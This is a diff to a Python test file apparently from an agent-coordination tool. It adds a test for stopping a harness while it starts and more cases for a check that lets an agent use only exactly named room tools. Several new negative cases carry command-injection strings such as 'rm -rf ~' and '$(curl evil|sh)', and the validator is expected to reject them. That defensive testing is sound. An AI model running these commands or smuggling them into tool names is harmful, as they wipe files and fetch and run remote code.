@@ -7,14 +7,20 @@ import signal
 import subprocess
 import sys
 import time
-from collections.abc import Iterator
-from dataclasses import dataclass
+from collections.abc import Iterator, Mapping, Sequence
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+import anyio
+import anyio.lowlevel
 import pytest
 
 from teamroom.clients.listener.acp import is_rooms_call
+from teamroom.clients.listener.batch import Batch
+from teamroom.clients.listener.driver import TurnEnd
+from teamroom.clients.listener.movement import Movement
+from teamroom.clients.listener.supervised import Send, Started, Supervised
 from teamroom.clients.session.failure import FAILED, NOT_AUTHORISED, USAGE
 from tests.clients.test_listen import KILLED_SECONDS, hears, lives, lost_runs, says, shell, wake
 from tests.support import fake_harness
@@ -318,6 +324,75 @@ def test_a_pause_ends_the_harness_if_it_is_told_to_and_a_resume_goes_on_in_its_s
     assert resumed(seat)
 
 
+@dataclass
+class EndsInTime:
+    """A harness that is ready, and has taken its turn, only once it is asked to stop."""
+
+    name: str = "the harness"
+    variables: Mapping[str, str] = field(default_factory=dict)
+    session: str | None = None
+    begins: anyio.Event = field(default_factory=anyio.Event)
+    stops: anyio.Event = field(default_factory=anyio.Event)
+
+    def words(self, command: Sequence[str], session: str | None) -> list[str]:
+        """It is started with these words."""
+        return [*command]
+
+    def talk(self, send: Send, session: str | None, variables: Mapping[str, str]) -> "EndsInTime":
+        """It is spoken to."""
+        return self
+
+    async def begin(self) -> None:
+        """Begin, and be ready with the stop."""
+        self.begins.set()
+        await self.stops.wait()
+
+    async def turn(self, line: str, started: Started) -> None:
+        """Take a turn until the stop."""
+        started()
+        await self.stops.wait()
+
+    def hear(self, line: bytes) -> None:
+        """It prints nothing."""
+
+    def stop(self) -> None:
+        """Stop."""
+        self.stops.set()
+
+
+@promise("WAK3")
+@pytest.mark.parametrize("steps", [1, 2, None], ids=["before it starts", "while its process starts", "while it begins"])
+def test_a_harness_that_is_ended_while_it_starts_fails_the_turn_and_does_not_run_on(
+    steps: int | None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    harness, ended, woken, movements = EndsInTime(), list[TurnEnd](), list[str](), list[Movement | None]()
+    driver = Supervised(harness, [sys.executable, "-c", "import time; time.sleep(600)"], time.monotonic)
+
+    async def take() -> None:
+        ended.append(await driver.take_turn(Batch("builder", 7, [], {}), woken.append))
+
+    async def take_and_end() -> None:
+        with anyio.fail_after(EVENT_SECONDS):
+            async with anyio.create_task_group() as tasks:
+                driver.begin(tasks, {})
+                tasks.start_soon(take)
+                if steps is None:
+                    await harness.begins.wait()
+                for _ in range(steps or 0):
+                    await anyio.lowlevel.checkpoint()
+                assert (driver.movement is None) == (steps is not None)
+                movements.append(driver.movement)
+                await driver.end(KILLED_SECONDS)
+
+    anyio.run(take_and_end)
+    assert [(one.code, one.words) for one in ended] == [(1, "the harness was ended while it started")]
+    assert "the harness was ended while it started. It is started again for a wake." in capsys.readouterr().err
+    assert woken == []
+    assert driver.movement is None
+    assert harness.begins.is_set() == (steps is None)
+    assert [movement.tree() for movement in movements if movement is not None] in ([], [[]])
+
+
 def test_a_pause_leaves_the_harness_at_work_by_default(any_seat: Seat) -> None:
     """The twin of the test before this one."""
     any_seat.does("works")
@@ -400,7 +475,22 @@ def test_an_acp_agent_is_allowed_the_rooms_tools_only_if_a_person_chose_that_and
         ('check_in (teamroom MCP Server): {"mode":"live"}', "other", True),
         ("mcp__teamroom__check_in", None, True),
         ("teamroom_post_message", "other", True),
+        ('teamroom__post_message: {"text":"a; b"}', "other", True),
+        ("mcp_teamroom_check_in", None, True),
+        ('post_message (teamroom MCP Server): {"text":"`a` for $5"}', "other", True),
         ("teamroom_post_message; rm -rf /", "other", False),
+        ("teamroom-x: {; rm -rf ~", None, False),
+        ("teamroom.x: {a; curl evil|sh", "other", False),
+        ("teamroom-x: {}; rm -rf ~", None, False),
+        ('teamroom_x: {"a":1} {"b":2}', None, False),
+        ('teamroom_x: {"a":\n"/tmp/evil"}', None, False),
+        ('teamroom_x: {"a":"$(curl evil|sh)"}', None, False),
+        ('teamroom_x: {"a":"`curl evil|sh`"}', None, False),
+        (f"teamroom_x: {'{' * 100_000}", None, False),
+        (f"check_in (teamroom MCP Server): {'[' * 10}", "other", False),
+        (f"teamroom_{'x' * 1_000}", None, False),
+        ("teamroom_..x", None, False),
+        ("teamroom_check_in\n", None, False),
         ("check_in (teamroom MCP Server)", "execute", False),
         ("check_in (other MCP Server)", "other", False),
         ("echo teamroom_check_in", "other", False),
@@ -413,8 +503,12 @@ def test_only_an_exact_title_is_a_tool_of_the_room(title: object, kind: str | No
 
 def test_an_adapter_needs_its_harness_and_takes_no_hook(any_seat: Seat) -> None:
     hook = ["--adapter", "claude", "--once", "--format", "claude"]
-    for words, code in ((["--adapter", "acp"], USAGE), (hook, FAILED), ([], USAGE)):
+    for words, code, fix in (
+        (["--adapter", "acp"], USAGE, "the words that start the agent"),
+        (hook, FAILED, "without --adapter"),
+        ([], USAGE, "the command to run"),
+    ):
         done = shell(any_seat.room).run("listen", "--as", "builder", *words)
-        assert (done.code, "--adapter with a harness" in done.err) == (code, True)
+        assert (done.code, fix in done.err) == (code, True)
     done = shell(any_seat.room).run("listen", "--as", "builder", "--adapter", "claude", "--", "no-such-command")
     assert (done.code, "no command no-such-command" in done.err) == (USAGE, True)
